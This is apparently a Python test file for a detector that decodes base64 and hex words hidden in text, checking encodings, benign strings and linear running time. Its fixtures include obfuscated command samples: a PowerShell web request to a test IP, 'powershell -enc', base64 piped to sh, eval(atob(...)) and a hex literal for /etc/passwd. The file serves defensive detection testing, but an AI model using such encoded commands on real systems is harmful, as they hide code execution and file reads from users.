"""Which base64 and hexadecimal words are read, and how long it takes."""

from __future__ import annotations

import base64
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sftsec_core.dataset.encoded_words import decoded_words

COMMAND = "Invoke-WebRequest http://198.51.100.7/a?b=c>>d"


def b64(text: str, coding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(coding)).decode()


class TestDecodedWords:
    @pytest.mark.parametrize(
        "word",
        [
            b64(COMMAND),
            b64(COMMAND).rstrip("="),
            base64.urlsafe_b64encode(COMMAND.encode()).decode(),
            b64(COMMAND, "utf-16-le"),
            b64("\ufeff" + COMMAND, "utf-16-le"),
            COMMAND.encode().hex(),
            "0x" + COMMAND.encode().hex().upper(),
        ],
        ids=["padded", "bare", "url-safe", "utf-16", "utf-16 with a mark", "hex", "0x"],
    )
    @pytest.mark.parametrize("around", ["run {} now", "a='{}'", "/tmp/x/{}", "x?q={}&r=1", "({})"])
    def test_reads_each_form_anywhere(self, word: str, around: str) -> None:
        assert list(decoded_words(around.format(word))) == [COMMAND]

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("powershell -enc aQBlAHgA", ["iex"]),
            ("echo d2hvYW1p | base64 -d", ["whoami"]),
            ("eval(atob('YWxlcnQoMSk'))", ["alert(1)"]),
            ("echo d2hvYW1pCg== | sh", ["whoami\n"]),
            ("select 0x2f6574632f706173737764", ["/etc/passwd"]),
            (b64("größer 北京 text and more"), ["größer 北京 text and more"]),
            (f"{b64('one two three')} {b64('one two three')}", ["one two three"]),
            (b64(COMMAND)[:-3], [COMMAND[:-1]]),
        ],
    )
    def test_reads_short_and_cut_words(self, text: str, expected: list[str]) -> None:
        assert list(decoded_words(text)) == expected

    @pytest.mark.parametrize(
        "text",
        [
            "",
            "password d2hvYW1p",
            "/usr/local/lib/python3/site-packages/numpy/core/_multiarray_umath",
            "3031323334353637 4111111111111111",
            "d41d8cd98f00b204e9800998ecf8427e e3b0c44298fc1c149afbf4c8996fb92427ae41e4",
            "123e4567-e89b-12d3-a456-426614174000",
            "AAAAAAAAAAAAAAAAAAAAAAAA",
            "ThisIsAnIdentifierInCamelCase HKEY_LOCAL_MACHINE_SOFTWARE",
            base64.b64encode(bytes(range(128, 200))).decode(),
            "H4sIAAAAAAAAA8tIzcnJVyjPL8pJUQQA" + "9f8Dq0" * 4,
        ],
    )
    def test_leaves_what_holds_no_text(self, text: str) -> None:
        assert list(decoded_words(text)) == []

    def test_reads_one_level_only(self) -> None:
        inner = b64(COMMAND)
        assert list(decoded_words(b64(f"echo {inner} | sh"))) == [f"echo {inner} | sh"]

    @given(st.text(alphabet=st.sampled_from("AaBb09+/-_=xX \u00e9"), max_size=60))
    def test_never_raises_on_anything(self, text: str) -> None:
        assert all(isinstance(found, str) for found in decoded_words(text))

    @given(st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=12, max_size=60))
    def test_finds_every_printable_text(self, text: str) -> None:
        assert list(decoded_words(b64(text))) == ([text] if text.strip() else [])

    @pytest.mark.parametrize(
        "part", ["A", "a/", "0x", "-e", "QUFB", "=", "YWJjZGVmZ2hpamts/", "AAA_-", "é"]
    )
    def test_takes_linear_time(self, part: str) -> None:
        text = part * (400_000 // len(part))
        began = perf_counter()
        list(decoded_words(text))
        assert perf_counter() - began < 2
